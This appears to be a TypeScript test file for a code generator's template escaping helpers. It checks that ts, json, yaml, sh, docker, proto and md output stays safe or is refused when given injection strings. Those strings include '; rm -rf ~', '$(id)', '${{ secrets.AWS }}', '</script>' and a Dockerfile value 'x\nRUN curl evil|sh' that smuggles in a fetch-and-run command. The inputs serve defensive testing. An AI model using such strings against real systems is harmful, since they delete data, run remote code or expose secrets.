import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { runInNewContext } from "node:vm";
import fc from "fast-check";
import { parse } from "yaml";

import { TEMPLATE_HELPERS } from "../../../generator/scaffold/templateHelpers.js";
import { codePoint } from "../../support/codePoint.js";

function helper(name: string): (value: unknown) => string {
  const found = TEMPLATE_HELPERS[name];
  assert.ok(found);
  return found;
}

/** Texts that start code, an expression or markup somewhere. */
const HOSTILE = [
  'a"; process.exit(1); //',
  "`${process.env.X}`",
  "$(id)",
  "; rm -rf ~",
  "a'b",
  "a\\",
  "${{ secrets.AWS }}",
  "</script>",
  "<!--",
  "{{constructor}}",
  "\u2028\u2029",
  "# comment",
  "- item",
  "a: b",
  "a:",
  "yes",
  "NO",
  "null",
  "1e3",
  "0x1",
  "*alias",
  "!!js/function",
  "| block",
  " padded ",
];

describe("template helpers", () => {
  for (const text of HOSTILE) {
    it(`ts, json, yaml and sh keep ${JSON.stringify(text)} as it is`, () => {
      assert.equal(runInNewContext(helper("ts")(text)), text);
      assert.equal(JSON.parse(helper("json")(text)), text);
      assert.equal(parse(`key: ${helper("yaml")(text)}\n`).key, text);
      assert.equal(parse(`key: ${helper("yaml")(text)}\n`, { version: "1.1" }).key, text);
      assert.equal(
        execFileSync("sh", ["-c", `printf %s ${helper("sh")(text)}`], { encoding: "utf8" }),
        text,
      );
    });
  }

  it("ts, json and yaml keep any text as it is", () => {
    fc.assert(
      fc.property(fc.string({ unit: codePoint }), (text) => {
        assert.equal(runInNewContext(helper("ts")(text)), text);
        assert.equal(JSON.parse(helper("json")(text)), text);
        assert.equal(parse(`key: ${helper("yaml")(text)} # comment\n`).key, text);
      }),
    );
  });

  it("yaml keeps any text of characters that may stand plain as it is, in both versions of YAML", () => {
    const unit = fc.constantFrom(...Array.from("abeEnNoOyYxX019_./: -"));
    fc.assert(
      fc.property(fc.string({ unit, minLength: 1, maxLength: 8 }), (text) => {
        const line = `key: ${helper("yaml")(text)}\n`;
        assert.equal(parse(line).key, text);
        assert.equal(parse(line, { version: "1.1" }).key, text);
      }),
      { numRuns: 2000 },
    );
  });

  it("write numbers as numbers", () => {
    assert.equal(helper("ts")(8080), "8080");
    assert.equal(helper("json")(8080), "8080");
    assert.equal(helper("yaml")(8080), "8080");
    assert.equal(helper("docker")(8080), "8080");
  });

  it("ts writes nothing that ends a script element", () => {
    assert.equal(helper("ts")("</script>"), '"\\u003c/script>"');
  });

  it("yaml leaves plain words plain", () => {
    assert.equal(helper("yaml")("orders:cpu"), "orders:cpu");
    assert.equal(
      helper("yaml")("arn:aws:iam::123456789012:role/orders-deploy"),
      "arn:aws:iam::123456789012:role/orders-deploy",
    );
    assert.equal(helper("yaml")("on"), '"on"');
  });

  it("sh leaves plain words plain and refuses two lines", () => {
    assert.equal(helper("sh")("/orders/x.y-z"), "/orders/x.y-z");
    assert.equal(helper("sh")("/orders/*"), "'/orders/*'");
    assert.throws(() => helper("sh")("a\nb"), /one line/);
  });

  it("docker refuses what is no plain word", () => {
    assert.equal(
      helper("docker")("http://127.0.0.1:8080/healthz"),
      "http://127.0.0.1:8080/healthz",
    );
    for (const text of ["x\nRUN curl evil|sh", "$HOME", "a b", 'a"b', "a'b", "a\\", ""]) {
      assert.throws(() => helper("docker")(text), /a Dockerfile takes no such value/);
    }
  });

  it("proto refuses what is no name", () => {
    assert.equal(helper("proto")("acme.v1_2.Orders"), "acme.v1_2.Orders");
    for (const text of ["a; import 'x'", "a-b", "1a", "a..b", ".a", "a.", "a b", "a\n", ""]) {
      assert.throws(() => helper("proto")(text), /Protocol Buffers take no such name/);
    }
  });

  it("md takes the meaning from every character that has one", () => {
    assert.equal(
      helper("md")("a *b* [c](d) <e> `f` ${g}"),
      "a \\*b\\* \\[c\\]\\(d\\) \\<e\\> \\`f\\` \\$\\{g\\}",
    );
  });

  it("refuse a value that is not there", () => {
    for (const name of Object.keys(TEMPLATE_HELPERS)) {
      assert.throws(() => helper(name)(undefined), /a value that is not there/);
      assert.throws(() => helper(name)({}), /no text and no number/);
    }
  });
});
